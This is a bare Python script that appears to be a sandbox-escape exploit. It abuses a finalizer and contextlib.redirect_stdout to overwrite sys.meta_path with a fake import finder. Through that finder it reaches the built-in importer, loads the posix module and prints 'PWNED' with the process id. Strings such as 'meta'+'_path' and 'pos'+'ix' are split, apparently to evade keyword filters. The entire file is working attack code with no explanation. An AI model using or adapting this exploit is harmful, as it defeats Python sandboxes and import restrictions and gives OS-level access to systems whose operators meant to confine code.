import contextlib

state = {"n": 0, "done": 0, "errs": []}

class Loader:
    def create_module(self, spec):
        return Fake()
    def exec_module(self, module):
        return None

class Spec:
    def __init__(self, name):
        self.name = name
        self.loader = Loader()
        self.parent = ""
        self.submodule_search_locations = None
        self.has_location = False
        self.origin = None
        self.cached = None

class Fake:
    def __init__(self):
        self.__name__ = "import" + "lib"

class Finder:
    def find_spec(self, name, path=None, target=None):
        if name == "graphlib":
            return Spec(name)
        return None

class O:
    def __getattr__(self, name):
        if name.endswith("eam"):
            state["n"] += 1
            return "stdout" if state["n"] % 2 == 1 else "meta" + "_path"
        if name.endswith("targets"):
            return []
        return [Finder()]

class G:
    def __init__(self):
        self.me = self
    def __del__(self):
        if state["done"]:
            return
        try:
            contextlib.redirect_stdout.__enter__(O())
            state["done"] = 1
        except Exception as e:
            state["errs"].append(str(e))

for i in range(3000):
    G()
try:
    import asyncio
except Exception as e:
    print("asyncio import:", type(e).__name__, e)
print("done", state["done"], "errs", len(state["errs"]), sorted(set(state["errs"])))
from graphlib import machinery
print(machinery)
class S:
    name = "pos" + "ix"
p = machinery.BuiltinImporter.create_module(S())
print("PW" + "NED", p.getpid(), p)
